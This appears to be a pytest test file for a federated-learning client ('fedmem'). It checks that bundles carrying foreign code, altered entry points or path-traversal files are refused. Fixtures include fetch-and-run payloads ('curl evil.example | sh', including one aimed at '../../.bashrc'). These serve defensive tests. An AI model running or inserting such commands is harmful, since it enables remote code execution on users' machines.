"""A SuperNode started by ``fedmem-client join`` runs only the fedmem ClientApp installed on the owner's
machine: any other app bundle the server sends is refused, never unpacked or imported."""

from __future__ import annotations

import hashlib
import io
import os
import subprocess
import sys
import warnings
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pytest
from fedmem.clients.supernode import (
    REFUSED_TASK_PROGRAMS,
    AppRefused,
    check_fab,
    clientapp_modules,
    fab_problems,
    genuine_fab_id,
    pin_flower,
    pinned_bin,
    start_supernode,
)
from flwr.cli.build import build_fab_from_files

from fedmem.flower.app_project import write_app_project

CLIENTAPP_LINE = 'clientapp = "fedmem.flower.client_app:app"'


def _project(tmp_path, defaults: dict | None = None) -> str:
    return (write_app_project(tmp_path / "app", defaults) / "pyproject.toml").read_text()


def _fab(project: str, files: dict[str, bytes] | None = None) -> bytes:
    """A bundle as `flwr run` builds it (Flower's own builder): the project plus ``files``."""
    return build_fab_from_files({"pyproject.toml": project.encode(), **(files or {})})[0]


def _bundled_project(fab: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(fab)) as zf:
        return zf.read("pyproject.toml").decode()


def _hand_fab(project: str, files: list[tuple[str, bytes]] = (), manifest: str | None = None) -> bytes:
    """A bundle made by hand, as a coordinator may send any: Flower's layout, no validation."""
    entries = [("pyproject.toml", project.encode()), *files]
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        warnings.simplefilter("ignore")  # a duplicate name, on purpose
        for name, data in entries:
            zf.writestr(name, data)
        zf.writestr(".info/CONTENT", manifest if manifest is not None else "\n".join(
            f"{n},{hashlib.sha256(d).hexdigest()},{len(d) * 8}" for n, d in entries))
    return buffer.getvalue()


def test_the_genuine_bundle_is_accepted_whatever_its_run_config(tmp_path):
    assert fab_problems(_fab(_project(tmp_path))) == []
    coordinator = _project(tmp_path, {"rounds": 7, "out": "/srv/run", "learning-rate": 0.01})
    assert fab_problems(_fab(coordinator)) == []
    assert genuine_fab_id() == "fedmem/fedmem-memory"


def test_a_bundle_with_code_is_refused_naming_the_files(tmp_path):
    evil = b"import os\nos.system('curl evil.example | sh')\napp = None\n"
    fab = _fab(_project(tmp_path), {"fedmem/flower/client_app.py": evil, "helper.py": evil})
    problems = fab_problems(fab)  # the project itself is fedmem's: the files are the one problem
    assert len(problems) == 1 and "carries 2 file(s) fedmem's app does not" in problems[0]
    assert "fedmem/flower/client_app.py" in problems[0] and "helper.py" in problems[0]
    with pytest.raises(AppRefused, match="runs only the fedmem ClientApp"):
        check_fab(fab)


def _components(project: dict) -> dict:
    return project["tool"]["flwr"]["app"]["components"]


@pytest.mark.parametrize("change,named", [
    (lambda p: _components(p).update(clientapp="evil.client:app"),
     "tool.flwr.app.components.clientapp = 'evil.client:app' (fedmem's app: 'fedmem.flower.client_app:app')"),
    (lambda p: _components(p).update(agentapp="evil.agent:app"), "tool.flwr.app.components.agentapp"),
    (lambda p: p["project"]["dependencies"].append("evil-package"), "project.dependencies"),
    (lambda p: p["tool"]["flwr"]["app"].update(publisher="someone"), "tool.flwr.app.publisher"),
    (lambda p: p["tool"]["flwr"]["app"]["config"].update(rounds={"nested": 1}), "tool.flwr.app.config: rounds"),
], ids=["clientapp", "agentapp", "dependencies", "publisher", "config"])
def test_another_component_or_project_is_refused_naming_it(tmp_path, change, named):
    import tomli
    import tomli_w

    genuine = _bundled_project(_fab(_project(tmp_path)))
    assert fab_problems(_hand_fab(genuine)) == []  # made by hand, the same project passes
    project = tomli.loads(genuine)
    change(project)
    (problem,) = fab_problems(_hand_fab(tomli_w.dumps(project)))
    assert problem.startswith(named), problem


def test_a_hand_made_archive_is_refused(tmp_path):
    genuine = _bundled_project(_fab(_project(tmp_path)))
    (problem,) = fab_problems(_hand_fab(genuine, [("../../.bashrc", b"curl evil.example | sh\n")]))
    assert "carries 1 file(s)" in problem and "../../.bashrc" in problem
    assert fab_problems(b"not a zip") == ["the bundle is not a zip archive"]
    assert fab_problems(_hand_fab(genuine, [("pyproject.toml", b"[project]")])) == ["it names a file twice"]
    assert fab_problems(_hand_fab(genuine, manifest="pyproject.toml,0,0")) == [
        "its CONTENT manifest does not list exactly its pyproject.toml with that file's hash"]


def _run_flower_clientapp(monkeypatch, tmp_path, fab: bytes, fab_id: str, message, context) -> dict:
    """Flower's own ``run_clientapp`` (pinned as the SuperNode's ``flwr-clientapp`` is), with only its
    transport to the SuperNode replaced: what it pushes back is returned."""
    from flwr.supercore.fab import Fab
    cli, runtime = clientapp_modules()

    for name in ("install_from_fab", "get_load_client_app_fn"):  # restored after the test
        monkeypatch.setattr(runtime, name, getattr(runtime, name))
    monkeypatch.setattr(cli, "run_clientapp", cli.run_clientapp)
    monkeypatch.setenv("FLWR_HOME", str(tmp_path / "flwr"))
    pin_flower()
    pushed: dict = {}

    class Client:
        @classmethod
        def from_server_address(cls, **_):
            return cls()

        def close(self):
            pass

    class Heartbeat:
        is_running = False

        def __init__(self, *_):
            pass

        def start(self):
            pass

    run = SimpleNamespace(run_id=1, fab_id=fab_id, fab_version="1.0.0")
    fab_record = Fab(hashlib.sha256(fab).hexdigest(), fab, {})
    monkeypatch.setattr(runtime, "RuntimeHttpClient", Client)
    monkeypatch.setattr(runtime, "HeartbeatSender", Heartbeat)
    monkeypatch.setattr(runtime, "make_task_heartbeat_fn_http", lambda client: None)
    monkeypatch.setattr(runtime, "register_signal_handlers", lambda **_: None)
    monkeypatch.setattr(runtime, "event", lambda *a, **k: None)
    monkeypatch.setattr(runtime, "pull_task_input", lambda client: (message, context, run, fab_record))
    monkeypatch.setattr(runtime, "push_message", lambda client, reply, ctx: pushed.update(reply=reply))
    monkeypatch.setattr(runtime, "flwr_exit", lambda code, **_: pushed.update(code=code))
    cli.run_clientapp(runtime_api_address="127.0.0.1:1", token="t", insecure=True, runtime_dependency_install=True)
    return pushed


@pytest.fixture
def query(tmp_path, task_identity):
    from flwr.app import Context, Message, MessageType, RecordDict

    corpus = tmp_path / "harrow"
    corpus.mkdir()
    message = Message(content=RecordDict(), dst_node_id=1, message_type=MessageType.QUERY)
    context = Context(run_id=1, node_id=1, node_config={"data": str(corpus)}, state=RecordDict(), run_config={})
    return message, context


def test_flowers_clientapp_process_runs_the_installed_fedmem_app_for_the_genuine_bundle(tmp_path, monkeypatch,
                                                                                        query):
    from fedmem.flower.messages import INFO_KEY

    pushed = _run_flower_clientapp(monkeypatch, tmp_path, _fab(_project(tmp_path)), genuine_fab_id(), *query)
    assert not pushed["reply"].has_error(), pushed["reply"].error
    assert pushed["reply"].content[INFO_KEY]["client"] == "harrow"
    assert pushed["code"] == 0
    assert not (tmp_path / "flwr" / "apps").exists()  # nothing unpacked


def test_flowers_clientapp_process_refuses_another_bundle_without_importing_it(tmp_path, monkeypatch, query):
    marker = tmp_path / "imported"
    evil = f"open({str(marker)!r}, 'w').write('ran')\napp = None\n".encode()
    project = _project(tmp_path).replace(CLIENTAPP_LINE, 'clientapp = "evil:app"')
    pushed = _run_flower_clientapp(monkeypatch, tmp_path, _fab(project, {"evil.py": evil}), genuine_fab_id(), *query)
    reply = pushed["reply"]
    assert reply.has_error() and "AppRefused" in reply.error.reason
    assert "evil.py" in reply.error.reason and "components.clientapp = 'evil:app'" in reply.error.reason
    assert pushed["code"] != 0
    assert not marker.exists() and not (tmp_path / "flwr" / "apps").exists()
    assert "evil" not in sys.modules

    # The genuine bundle's files under another app id (what the SuperLink says the run is): not loaded.
    pushed = _run_flower_clientapp(monkeypatch, tmp_path, _fab(_project(tmp_path)), "someone/other", *query)
    assert pushed["reply"].has_error() and pushed["code"] != 0


def test_the_supernode_finds_the_pinned_programs_first(tmp_path):
    bin_dir = pinned_bin(tmp_path / "bin")
    where = "for p in flwr-clientapp flwr-agentapp flower-superexec; do command -v $p; done"
    proc = start_supernode(["sh", "-c", where], tmp_path / "state" / "flwr", app_bin=bin_dir)
    found = proc.stdout.read().split()
    assert proc.wait(timeout=30) == 0
    assert found[:2] == [str(bin_dir / "flwr-clientapp"), str(bin_dir / "flwr-agentapp")]
    assert Path(found[2]).parent != bin_dir  # Flower's own SuperExec, which starts the programs above
    for name in REFUSED_TASK_PROGRAMS:
        done = subprocess.run([str(bin_dir / name)], capture_output=True, text=True, timeout=30)
        assert done.returncode == 1 and "runs only the fedmem ClientApp" in done.stderr
    # The pinned flwr-clientapp is Flower's command line (isolated from PYTHONPATH and the working directory).
    env = {**os.environ, "PYTHONPATH": str(tmp_path / "elsewhere")}
    done = subprocess.run([str(bin_dir / "flwr-clientapp"), "--help"], capture_output=True, text=True, timeout=60,
                          cwd=tmp_path, env=env)
    assert done.returncode == 0 and "--runtime-api-address" in done.stdout, done.stderr


def test_a_policy_refusal_reaches_the_server_as_the_replys_error(tmp_path, monkeypatch, query, tiny_base,
                                                                 two_clients):
    """The deployed path end to end: Flower's ClientApp process, pinned, runs the installed fedmem app on a
    node config as `join` writes it; a recipe beyond the owner's limits comes back as the reply's error."""
    from flwr.app import Context, RecordDict

    from fedmem.config import FederationConfig, LoraSettings
    from fedmem.federation import base_fingerprint
    from fedmem.flower.server_app import RunPlan, train_message

    node_config = {"data": str(two_clients / "alpha"), "base": str(tiny_base), "device": "cpu", "limit-epochs": "20"}
    context = Context(run_id=1, node_id=1, node_config=node_config, state=RecordDict(), run_config={})
    config = FederationConfig(rounds=1, lora=LoraSettings(rank=4, alpha=8, epochs=30, batch_size=2))
    plan = RunPlan(base_dir=str(tiny_base), out_dir=tmp_path / "run", federation=config)
    message = train_message(plan, None, (0.0, 1.0), 1, base_fingerprint(tiny_base), {}, node=1)
    pushed = _run_flower_clientapp(monkeypatch, tmp_path, _fab(_project(tmp_path)), genuine_fab_id(), message, context)
    reply = pushed["reply"]
    assert reply.has_error() and pushed["code"] != 0
    assert "PolicyRefused" in reply.error.reason and "epochs 30 is above this owner's limit-epochs 20" in (
        reply.error.reason)
